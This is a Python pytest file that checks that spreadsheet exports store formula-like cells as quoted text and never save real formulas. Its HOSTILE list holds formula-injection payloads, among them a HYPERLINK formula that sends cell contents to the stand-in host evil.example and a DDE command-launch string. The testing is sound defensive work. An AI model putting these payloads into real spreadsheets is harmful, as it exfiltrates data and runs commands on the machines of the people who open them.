"""Exports never write a formula: cells a spreadsheet would evaluate are stored as text."""

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from core.xlsx import FORMULA_TRIGGERS, workbook_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def saved_cells(values: list) -> list:
    workbook = Workbook()
    workbook.active.append(values)
    reopened = load_workbook(io.BytesIO(workbook_bytes(workbook)))
    return list(reopened.active[1])


def assert_text_cells(cells, expected: list[str]) -> None:
    for cell, value in zip(cells, expected, strict=True):
        assert cell.data_type == "s", value
        assert cell.value == value
        assert cell.quotePrefix


def test_every_trigger_is_written_as_text():
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}
    assert_text_cells(saved_cells(HOSTILE), HOSTILE)


def test_ordinary_values_keep_their_types():
    cells = saved_cells(["标题", -3, 2.5, "a=b"])
    assert [(c.value, c.data_type) for c in cells] == [
        ("标题", "s"),
        (-3, "n"),
        (2.5, "n"),
        ("a=b", "s"),
    ]
    assert not any(cell.quotePrefix for cell in cells)


@pytest.mark.parametrize("assign", ["value", "append"])
def test_a_formula_given_directly_is_not_saved_as_one(assign):
    workbook = Workbook()
    if assign == "value":
        workbook.active["B2"] = "=1+1"
    else:
        workbook.create_sheet("第二页").append(["=1+1"])
    content = workbook_bytes(workbook)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if "worksheets/" in name]
    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row)
